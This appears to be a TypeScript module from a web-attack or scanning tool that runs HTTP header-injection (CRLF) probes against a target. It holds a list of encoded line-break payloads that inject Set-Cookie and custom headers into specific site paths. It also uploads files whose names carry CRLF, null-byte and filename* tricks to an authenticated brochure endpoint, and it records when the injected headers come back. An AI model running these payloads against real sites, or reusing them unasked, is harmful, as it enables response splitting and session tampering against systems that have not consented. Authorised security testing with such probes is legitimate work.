import type { Answer, Attempt, Target } from "./target.ts";
import { authorised, call, form, some } from "./target.ts";

const BREAKS = ["%0d%0a", "%0a", "%0d", "%E5%98%8A%E5%98%8D", "\r\n", "%250d%250a", "%u000a"];
const PLACES = [
  "/product?category=",
  "/product/",
  "/gallery/?next=",
  "/en/",
  "/about/?x=",
  "/unavailable?path=/",
  "/uploads/00/",
  "/api/main-category/",
];

/** Line breaks, in the hope that a header of one's own comes back. */
export async function* headerInjection(target: Target): AsyncGenerator<Attempt> {
  const lines = some(target, BREAKS, 3).map((line) => `${line}X-Hit:1${line}Set-Cookie:hit=1`);
  for (const place of PLACES) {
    for (const line of lines) {
      const path = `${place}1${line.replace(/[\r\n]/g, (letter) => encodeURIComponent(letter))}`;
      yield judged(`GET ${path}`, await call(target, "GET", path, { headers: { Accept: "text/html" } }));
    }
  }
  const names = ["a\r\nX-Hit: 1.pdf", "a\";filename*=UTF-8''x.html", "a.pdf\u0000.html"];
  for (const name of some(target, names)) {
    const pdf = [new Blob(["%PDF-1.4\n%%EOF"], { type: "application/pdf" }), name] as [Blob, string];
    const body = form({ title: "A name with a line break", pdf_file: pdf });
    yield judged(
      `a file named ${JSON.stringify(name)}`,
      await call(target, "POST", "/api/ebrochure", { headers: authorised(target), body }),
    );
  }
}

const judged = (what: string, { headers }: Answer) => ({
  what,
  ...((headers["x-hit"] || headers["set-cookie"]) && { hit: "wrote a header" }),
});
